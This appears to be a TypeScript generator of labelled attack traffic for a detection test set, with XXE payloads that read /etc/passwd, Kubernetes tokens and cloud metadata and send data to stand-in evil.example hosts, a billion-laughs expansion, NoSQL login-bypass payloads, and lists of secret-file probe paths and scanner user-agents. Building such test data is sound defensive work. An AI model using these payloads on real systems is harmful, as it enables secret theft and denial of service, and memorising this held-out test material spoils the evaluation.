import { body, type LabelledAttack } from '../../attack.ts';
import type { Exchange } from '../../call-record.ts';
import type { ShapedFamily } from '../../half-corpus.ts';
import type { Random } from '../../random.ts';
import { indifferent } from '../attack-spots.ts';
import { drawn } from '../slots.ts';

const API = 'api.harbour.example';

const ENTITIES = [
  '<!DOCTYPE foo [<!ENTITY fx SYSTEM "file:///etc/hostname">]><stock><product>&fx;</product><store>‹n›</store></stock>'.replaceAll(
    'f‹word›',
    'fx',
  ),
  '<!DOCTYPE data [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://‹word›.evil.example/‹hex›.dtd">%b;%c;]><data>&d;</data>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "ftp://‹word›.evil.example:2121/‹hex›">]><x>&y;</x>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "http://127.0.0.1:8500/v1/kv/‹word›">]><x q="‹n›"><z>&y;</z></x>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]><x>&y;<i>‹n›</i></x>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "/etc/‹word›/passwd">]><x>&y;</x>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "data://text/plain;base64,‹b64›">]><x>&y;</x>',
  '<!DOCTYPE x SYSTEM "file:///dev/random?‹hex›"><x>‹n›</x>',
  '<!DOCTYPE x SYSTEM "https://‹word›.evil.example:4443/‹hex›" []><x/>',
  '<!DOCTYPE x PUBLIC "-//OASIS//DTD X//EN" "http://‹ip›/‹hex›.dtd"><x>‹n›</x>',
  '<!DOCTYPE x [<!NOTATION n SYSTEM "http://‹word›.evil.example/"><!ENTITY u SYSTEM "http://‹word›.evil.example/‹hex›.gif" NDATA n>]><x i="u"/>',
  '<foo xmlns:xi="http://www.w3.org/2001/XInclude" n="‹n›"><xi:include parse="text" href="/etc/‹word›"/></foo>',
  '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://169.254.169.254/latest/user-data?‹hex›" parse="text"><xi:fallback/></xi:include></x>',
  '<!DOCTYPE z [<!ENTITY a0 "‹word›‹word›"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;"><!ENTITY a3 "&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;"><!ENTITY a4 "&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;">]><z>&a4;</z>',
  '<!DOCTYPE svg [<!ENTITY q SYSTEM "file:///etc/group">]>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ‹n› ‹n›"><text x="0">&q;</text></svg>',
  '<!DOCTYPE soap:Envelope [<!ENTITY q SYSTEM "file:///etc/os-release">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m>&q;</m><n>‹n›</n></soap:Body></soap:Envelope>',
  '<!DOCTYPE r [\t<!ENTITY\t% k\tSYSTEM\t"http://‹word›.evil.example/‹hex›"\t>\t%k;\t]><r/>',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///C:/inetpub/wwwroot/web.config">]><r><v>‹n›</v>&x;</r>',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/‹word›.php">]><r>&x;</r>',
  '<!DOCTYPE r [<!ENTITY % s SYSTEM "file:///etc/fstab"><!ENTITY % t "<!ENTITY u SYSTEM \'ftp://‹word›.evil.example/%s;\'>">%t;]><r>&u;</r>',
];

function xxe(r: Random): LabelledAttack {
  const text = `${r.pick(['<?xml version="1.0" encoding="utf-8"?>', "<?xml version='1.0'?>\n", '', '<?xml version="1.0" standalone="yes"?>'])}${drawn(r, ENTITIES)}`;
  const ask = r.pick<() => Omit<Exchange, 'status'>>([
    () => document(r, text),
    () => document(r, text),
    () => document(r, text),
    () => ({
      method: 'POST',
      host: API,
      path: '/v3/transform',
      ...body('application/json', JSON.stringify({ stylesheet: null, document: { body: text } })),
    }),
    () => ({
      method: 'POST',
      host: API,
      path: '/legacy',
      ...body(
        'application/x-www-form-urlencoded',
        new URLSearchParams({ request: text, v: r.hex(4) }).toString(),
      ),
    }),
    () => ({ method: 'GET', host: API, path: '/v3/parse', query: `doc=${encodeURIComponent(text)}` }),
    () => ({
      method: 'POST',
      host: API,
      path: '/v3/upload',
      ...body(
        'multipart/form-data; boundary=zz7',
        `--zz7\r\nContent-Disposition: form-data; name="sheet"; filename="${r.hex(5)}.xml"\r\nContent-Type: text/xml\r\n\r\n${text}\r\n--zz7--\r\n`,
      ),
    }),
  ])();
  return {
    family: 'xxe',
    accepted: ['xxe', 'ssrf', 'path-traversal'],
    technique: text.slice(0, 80),
    location: ask.query === undefined ? 'request.body' : 'request.query',
    outcome: 'attempt',
    shown: text,
    exchange: { ...ask, ...indifferent(r) },
  };
}

const document = (r: Random, text: string): Omit<Exchange, 'status'> => ({
  method: 'POST',
  host: API,
  path: r.pick(['/ws', '/v3/invoices', '/xmlrpc', '/dav/a', '/v3/stock']),
  ...body(
    r.pick([
      'application/xml',
      'text/xml',
      'application/xhtml+xml',
      'image/svg+xml',
      'application/xml; charset=UTF-8',
    ]),
    text,
  ),
});

const MONGO = [
  '{"account":{"$ne":"‹hex›"},"secret":{"$ne":"x"}}',
  '{"name":{"$regex":".*"},"code":{"$gt":"‹d›"}}',
  '{"user":"root","password":{"$exists":true,"$ne":"‹hex›"}}',
  '{"where":{"$where":"function(){return this.pin==‹n›}"}}',
  '{"email":{"$in":["admin@‹word›.example"]},"password":{"$gt":""}}',
  '{"$or":[{"user":"admin"},{"user":{"$ne":"‹hex›"}}],"password":{"$ne":1}}',
  '{"otp":{"$type":2},"user":"‹word›"}',
];
const MONGO_QUERY = [
  'account[$ne]=‹hex›&secret[$ne]=1',
  'user=admin&password[$gt]=&s=‹hex›',
  'password[$regex]=^.{‹d›}&user=‹word›',
  'code[$in][]=‹n›&code[$in][]=‹n›&user[$ne]=x',
  'pin[$not][$eq]=‹hex›&user=root',
];

function mongo(r: Random): LabelledAttack {
  const form = r.chance(0.4);
  const text = drawn(r, form ? MONGO_QUERY : MONGO);
  const ask: Omit<Exchange, 'status'> = {
    method: 'POST',
    host: API,
    path: r.pick(['/signin', '/v3/otp', '/v3/users/find']),
    ...body(form ? 'application/x-www-form-urlencoded' : 'application/json', text),
  };
  return {
    family: 'nosql-injection',
    accepted: ['nosql-injection'],
    technique: text.slice(0, 40),
    location: 'request.body',
    outcome: 'attempt',
    shown: text,
    exchange: { ...ask, ...indifferent(r) },
  };
}

const PROBES = [
  '/.git/HEAD',
  '/.env.production',
  '/wp-admin/install.php',
  '/.DS_Store',
  '/phpinfo.php',
  '/adminer.php',
  '/actuator/heapdump',
  '/.htpasswd',
  '/web.config',
  '/.vscode/sftp.json',
  '/cgi-bin/luci/;stok=/locale',
  '/jmx-console/',
  '/console/login/LoginForm.jsp',
  '/_ignition/execute-solution',
  '/‹word›.sql.gz',
  '/backup/‹word›.zip',
  '/.docker/config.json',
  '/wp-json/wp/v2/users',
  '/boaform/admin/formLogin',
  '/shell.php',
  '/debug/default/view?panel=config',
];
const TOOLS = [
  'sqlmap/1.9.‹d›.‹d›#dev (https://sqlmap.org)',
  'Nikto/2.1.6 ‹n›',
  'Mozilla/5.0 (compatible; Nuclei/3.‹d›)',
  'DirBuster-1.0-RC1 (http://www.owasp.org/)',
  'commix/v4.0-stable',
  'Arachni/v1.6',
  'OpenVAS-VT 23.‹d›',
  'Nessus/10.‹d›',
  'WhatWeb/0.5.‹d›',
  'ffuf/2.1.‹d›',
  'jaeles/beta',
  'Mozilla/5.0 (compatible; Acunetix; ‹hex›)',
];

function probe(r: Random): LabelledAttack {
  const byTool = r.chance(0.35);
  const path = byTool ? drawn(r, ['/‹word›/‹n›']) : `${drawn(r, ['', '/‹word›', '/app'])}${drawn(r, PROBES)}`;
  const agent = drawn(r, TOOLS);
  const gone = { status: r.pick([404, 403]), responseBody: '' };
  return {
    family: 'scanner',
    accepted: ['scanner'],
    technique: byTool ? 'tool' : 'path',
    location: byTool ? 'request.header' : 'request.path',
    outcome: 'attempt',
    shown: byTool ? `${agent} ${path}` : path,
    exchange: {
      method: r.pick(['GET', 'HEAD']),
      host: API,
      path,
      requestHeaders: byTool ? { 'user-agent': agent } : {},
      ...gone,
    },
  };
}

export const HELD_SHAPED: readonly ShapedFamily[] = [
  { family: 'xxe', attempts: 170, attack: xxe },
  { family: 'nosql-injection', attempts: 50, attack: mongo },
  { family: 'scanner', attempts: 45, attack: probe },
];
